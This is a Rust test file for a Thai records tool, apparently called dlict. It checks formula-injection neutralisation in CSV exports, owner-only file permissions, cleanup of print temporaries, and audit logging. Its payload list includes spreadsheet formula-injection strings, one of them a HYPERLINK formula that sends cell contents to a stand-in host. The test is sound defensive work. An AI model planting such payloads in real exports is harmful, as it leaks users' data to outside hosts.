//! Nothing leaked: CSV cells a spreadsheet would run as formulas are neutralised (checked by
//! opening the CSV in LibreOffice), files holding personal data are owner-only, print
//! temporaries do not outlive their use, and every way a citizen id leaves the program in
//! full is in the log with the officer, the operating-system account and the machine.

mod common;

use calamine::{Data, Reader, Xlsx, open_workbook};
use common::{citizen_id, dlict_on, stderr, template};
use dlict::forms::Answers;
use dlict::store::{Status, Store};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::Command;

fn tmp(name: &str) -> PathBuf {
    common::tmp("privacy", name)
}

fn website(suggestion: &str) -> Answers {
    let t = template("website_satisfaction");
    let items: serde_json::Map<String, Value> = t
        .field("satisfaction")
        .expect("grid")
        .rating_items()
        .map(|it| (it.id.clone(), json!(4)))
        .collect();
    json!({"user_type": {"choice": "teacher"}, "satisfaction": items, "suggestions": suggestion})
        .as_object()
        .expect("object")
        .clone()
}

const PAYLOADS: [&str; 7] = [
    "=1+1",
    "+1+1",
    "@SUM(1,1)",
    "-1+1",
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"คลิก\")",
    "\t=1+1",
    "-12.5",
];

/// Item 8: exported CSV opened in LibreOffice (as Excel would open it): no formula runs, no
/// live link is built, and a negative number stays a number.
#[test]
fn csv_cells_that_look_like_formulas_stay_text_in_a_spreadsheet() {
    let dir = tmp("inject");
    let db = dir.join("dlict.sqlite3");
    let t = template("website_satisfaction");
    let mut s = Store::open(&db).expect("create");
    let items: Vec<(Status, Answers)> = PAYLOADS
        .iter()
        .map(|p| (Status::Complete, website(p)))
        .collect();
    s.insert_records(&t, &items).expect("insert");
    drop(s);
    let csv = dir.join("w.csv");
    let out = dlict_on(
        &db,
        &[
            "export",
            "--format",
            "csv",
            "--form",
            "website_satisfaction",
            "--out",
            csv.to_str().expect("utf8"),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let text = std::fs::read_to_string(&csv).expect("csv");
    assert!(text.contains("'=1+1") && text.contains("'@SUM(1,1)") && text.contains("'-1+1"));
    assert!(
        !text.contains(",=") && !text.contains(",\"="),
        "no cell begins with ="
    );

    let Ok(v) = Command::new("soffice").arg("--version").output() else {
        assert!(
            std::env::var_os("CI_REQUIRE_LIBREOFFICE").is_none(),
            "CI must have LibreOffice"
        );
        return;
    };
    assert!(v.status.success());
    let lo = dir.join("lo");
    let out = Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}/profile",
            lo.display()
        ))
        .args([
            "--headless",
            "--norestore",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
        ])
        .arg(&lo)
        .arg(&csv)
        .output()
        .expect("soffice runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut wb: Xlsx<_> = open_workbook(lo.join("w.xlsx")).expect("LibreOffice wrote an xlsx");
    let name = wb.sheet_names()[0].clone();
    let formulas = wb.worksheet_formula(&name).expect("formulas");
    assert!(
        formulas.rows().flatten().all(|f| f.is_empty()),
        "LibreOffice found formulas: {:?}",
        formulas
            .rows()
            .flatten()
            .filter(|f| !f.is_empty())
            .collect::<Vec<_>>()
    );
    let range = wb.worksheet_range(&name).expect("sheet");
    let header: Vec<String> = range
        .rows()
        .next()
        .expect("header")
        .iter()
        .map(|c| c.to_string())
        .collect();
    let col = header
        .iter()
        .position(|h| h.contains(&t.field("suggestions").expect("f").label))
        .expect("suggestions column");
    let values: Vec<&Data> = range.rows().skip(1).map(|r| &r[col]).collect();
    assert_eq!(values.len(), PAYLOADS.len());
    for (v, p) in values.iter().zip(PAYLOADS) {
        match (*v, p) {
            (Data::Float(f), "-12.5") => assert_eq!(*f, -12.5),
            (Data::String(s), _) => {
                assert!(s.ends_with(p.trim_start_matches('\t')), "{p} became {s}");
            }
            (other, _) => panic!("{p} became {other:?}"),
        }
    }
}

/// Item 9: the database, its side files, the backups folder and its copies, and exports are
/// owner-only whatever the umask; the folders the program creates are too.
#[cfg(unix)]
#[test]
fn files_holding_personal_data_are_owner_only() {
    use common::mode;
    let dir = tmp("modes");
    let db = dir.join("new-folder").join("dlict.sqlite3");
    let mut s = Store::open(&db).expect("create");
    s.insert_records(
        &template("website_satisfaction"),
        &[(Status::Complete, website("ดี"))],
    )
    .expect("insert");
    assert_eq!(mode(db.parent().expect("folder")), 0o700, "data folder");
    assert_eq!(mode(&db), 0o600, "database");
    let wal = PathBuf::from(format!("{}-wal", db.display()));
    assert_eq!(mode(&wal), 0o600, "its WAL");
    let auto = s
        .auto_backup(chrono::Local::now().naive_local())
        .expect("backup")
        .expect("made");
    assert_eq!(
        mode(auto.parent().expect("backups")),
        0o700,
        "backups folder"
    );
    assert_eq!(mode(&auto), 0o600, "automatic copy");
    drop(s);
    for (format, name) in [("csv", "x.csv"), ("xlsx", "x.xlsx"), ("json", "x.json")] {
        let out = dir.join(name);
        let o = dlict_on(
            &db,
            &[
                "export",
                "--format",
                format,
                "--form",
                "website_satisfaction",
                "--out",
                out.to_str().expect("utf8"),
            ],
        );
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(mode(&out), 0o600, "{format} export");
    }
    let copy = dir.join("copy.sqlite3");
    assert!(
        dlict_on(&db, &["backup", "--out", copy.to_str().expect("utf8")])
            .status
            .success()
    );
    assert_eq!(mode(&copy), 0o600, "backup by hand");
    let pdf = dir.join("r.pdf");
    assert!(
        dlict_on(
            &db,
            &["pdf", "record", "1", "--out", pdf.to_str().expect("utf8")]
        )
        .status
        .success()
    );
    assert_eq!(mode(&pdf), 0o600, "printed record");
    // A database made by an older version under a permissive umask is tightened on opening.
    let old = dir.join("old.sqlite3");
    drop(Store::open(&old).expect("create"));
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&old, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    }
    drop(Store::open(&old).expect("open"));
    assert_eq!(mode(&old), 0o600);
}

/// Item 9: PDFs handed to the system's viewer go to a per-user, owner-only folder and are
/// swept: those of a closed preview, and at the next start those left by an earlier run.
#[cfg(unix)]
#[test]
fn print_temporaries_are_private_and_swept() {
    let folder = dlict::ui::print::print_folder();
    assert!(
        !folder.starts_with(std::env::temp_dir()) || folder.ends_with("dlict-print"),
        "a per-user folder: {}",
        folder.display()
    );
    dlict::private_fs::create_dir_all(&folder).expect("folder");
    assert_eq!(common::mode(&folder) & 0o077, 0, "owner-only");
    let old = folder.join(format!("old-{}.pdf", std::process::id()));
    std::fs::write(&old, b"%PDF-1.7 old").expect("write");
    let an_hour_ago = std::time::SystemTime::now() - std::time::Duration::from_hours(1);
    std::fs::File::options()
        .write(true)
        .open(&old)
        .and_then(|f| f.set_modified(an_hour_ago))
        .expect("age it");
    let fresh = folder.join(format!("fresh-{}.pdf", std::process::id()));
    std::fs::write(&fresh, b"%PDF-1.7 fresh").expect("write");
    dlict::ui::print::sweep_print_folder(std::time::Duration::from_mins(10));
    assert!(!old.exists(), "an old print temporary is removed at start");
    assert!(fresh.exists(), "one a viewer may still be opening stays");
    let _ = std::fs::remove_file(fresh);
}

fn audit_rows(db: &Path, action: &str) -> Vec<(String, String, String, String)> {
    let c = rusqlite::Connection::open(db).expect("open");
    let mut stmt = c
        .prepare("SELECT actor, coalesce(os_user, ''), coalesce(machine, ''), coalesce(after, '') FROM audit WHERE action = ?1 ORDER BY id")
        .expect("prepare");
    stmt.query_map([action], |r| {
        Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?))
    })
    .expect("query")
    .collect::<Result<_, _>>()
    .expect("rows")
}

/// Item 10: a backup, a listing with ids revealed and a printed record (which shows the id in
/// full) are each logged; every entry names the officer, the account and the machine; paths
/// in the log are absolute.
#[test]
fn backups_reveals_and_prints_are_logged_with_account_and_machine() {
    let dir = tmp("audit");
    let db = dir.join("dlict.sqlite3");
    let data = dir.join("a.json");
    std::fs::write(
        &data,
        json!({
            "date": "24/11/2569", "name": "นางสาวศรีสุดา ใจดี", "citizen_id": citizen_id("110170023070"),
            "position": "ครู", "unit": "โรงเรียนสารคามพิทยาคม", "phone": "085 537 4109",
            "systems": ["student"], "purpose": "ใช้ข้อมูลนักเรียน",
            "applicant": {"name": "นางสาวศรีสุดา ใจดี", "date": "2026-11-24"}
        })
        .to_string(),
    )
    .expect("write");
    let run = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_dlict"))
            .current_dir(&dir)
            .env("USER", "somchai")
            .env("USERNAME", "somchai")
            .env("HOSTNAME", "pc-dlict-01")
            .env("COMPUTERNAME", "pc-dlict-01")
            .arg("--db")
            .arg(&db)
            .args(args)
            .output()
            .expect("runs");
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
    };
    run(&["record", "add", "access_request", "--data", "a.json"]);
    run(&["backup", "--out", "relative-copy.sqlite3"]);
    run(&[
        "record",
        "list",
        "access_request",
        "--json",
        "--reveal-citizen-id",
    ]);
    run(&["pdf", "record", "1", "--out", "printed.pdf"]);
    run(&["export", "--format", "json", "--out", "relative.json"]);
    for action in ["create", "backup", "reveal", "print", "export"] {
        let rows = audit_rows(&db, action);
        assert_eq!(rows.len(), 1, "{action} logged once");
        let (actor, user, machine, after) = &rows[0];
        assert!(!actor.is_empty(), "{action}: officer");
        assert_eq!(user, "somchai", "{action}: account");
        assert_eq!(machine, "pc-dlict-01", "{action}: machine");
        if ["backup", "print", "export"].contains(&action) {
            let shown = dir.display().to_string();
            assert!(after.contains(&shown), "{action}: absolute path in {after}");
        }
    }
}
